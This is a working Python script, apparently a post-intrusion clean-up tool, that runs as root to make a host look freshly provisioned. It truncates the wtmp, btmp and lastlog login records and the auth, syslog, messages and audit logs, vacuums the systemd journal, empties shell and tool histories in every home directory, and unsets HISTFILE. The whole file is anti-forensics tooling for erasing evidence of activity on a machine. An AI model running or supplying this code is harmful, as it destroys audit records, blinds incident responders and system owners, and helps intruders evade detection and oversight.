#!/usr/bin/env python3
"""Post-engagement host tidy-up.

Resets login accounting, auth logs, the journal and interactive shell
histories so the host looks freshly provisioned. Runs as root.
"""
import argparse
import glob
import logging
import os
import pwd
import subprocess
import sys

log = logging.getLogger("tidy")

# (glob pattern, action)
TARGETS = [
    ("/var/log/wtmp", "truncate"),
    ("/var/log/btmp", "truncate"),
    ("/var/log/lastlog", "truncate"),
    ("/var/log/auth.log*", "truncate"),
    ("/var/log/secure*", "truncate"),
    ("/var/log/syslog*", "truncate"),
    ("/var/log/messages*", "truncate"),
    ("/var/log/audit/audit.log*", "truncate"),
]
HISTORY_FILES = (".bash_history", ".zsh_history", ".python_history",
                 ".mysql_history", ".lesshst", ".viminfo")


def home_dirs():
    seen = set()
    for entry in pwd.getpwall():
        home = entry.pw_dir
        if home and home not in seen and os.path.isdir(home):
            seen.add(home)
            yield home


def truncate(path: str, dry_run: bool) -> bool:
    try:
        size = os.path.getsize(path)
    except OSError:
        return False
    log.info("reset %s (%d bytes)", path, size)
    if not dry_run:
        fd = os.open(path, os.O_WRONLY | os.O_TRUNC)
        os.close(fd)
    return True


def vacuum_journal(dry_run: bool):
    cmds = [["journalctl", "--rotate"],
            ["journalctl", "--vacuum-time=1s"]]
    for cmd in cmds:
        log.info("$ %s", " ".join(cmd))
        if not dry_run:
            subprocess.run(cmd, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, check=False)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-n", "--dry-run", action="store_true")
    ap.add_argument("--keep-journal", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(name)s: %(message)s")

    if os.geteuid() != 0 and not args.dry_run:
        log.error("run as root")
        return 1

    count = 0
    for pattern, action in TARGETS:
        for path in glob.glob(pattern):
            if action == "truncate" and os.path.isfile(path):
                count += truncate(path, args.dry_run)

    for home in home_dirs():
        for name in HISTORY_FILES:
            count += truncate(os.path.join(home, name), args.dry_run)

    if not args.keep_journal:
        vacuum_journal(args.dry_run)

    os.environ.pop("HISTFILE", None)
    log.info("%d file(s) reset", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
